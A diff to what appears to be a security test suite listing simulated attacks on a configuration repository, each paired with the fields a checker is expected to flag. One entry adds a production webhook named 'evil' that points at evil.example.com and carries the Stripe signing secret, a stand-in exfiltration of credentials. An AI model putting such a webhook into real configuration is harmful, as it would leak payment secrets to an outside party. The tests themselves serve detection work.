@@ -121,8 +121,12 @@ ATTACKS: dict[str, tuple[Callable[[Branch], None], set[tuple[str, str]]]] = {
         {(SANDBOX, "fingerprints.key_id"), (SANDBOX, "fingerprints.credentials.payflow.password")},
     ),
     "a webhook": (
-        write("environments/production/more.yaml", "webhooks: {evil: {service: stripe, integration: stripe}}\n"),
-        {("webhooks/evil", "service"), ("webhooks/evil", "integration")},
+        write(
+            "environments/production/more.yaml",
+            "webhooks:\n  evil:\n    service: stripe\n    integration: stripe\n    url: https://evil.example.com/x\n"
+            "    signing_secret: credentials.stripe.signing_secret\n",
+        ),
+        {("webhooks/evil", name) for name in ("service", "integration", "url", "signing_secret")},
     ),
     "the same waiver twice": (
         write("environments/production/waivers.yaml", f"{WAIVER[:-2]}, {WAIVER[10:]}"),
@@ -220,7 +224,7 @@ ATTACKS: dict[str, tuple[Callable[[Branch], None], set[tuple[str, str]]]] = {
     "a reference of the sandbox": (a_sandbox_that_reads, {(SANDBOX, "credentials/stripe.secret_key")}),
     "a new environment": (
         a_new_environment_that_reads,
-        {("environments/mine", f"shop.{name}") for name in ("provider", "url", "version")}
+        {("environments/mine", f"shop.{name}") for name in ("provider", "url", "version", "backend_prefix")}
         | {
             ("environments/mine", name)
             for name in ("class", "credentials/apruve.merchant_id", "credentials/apruve.api_key")
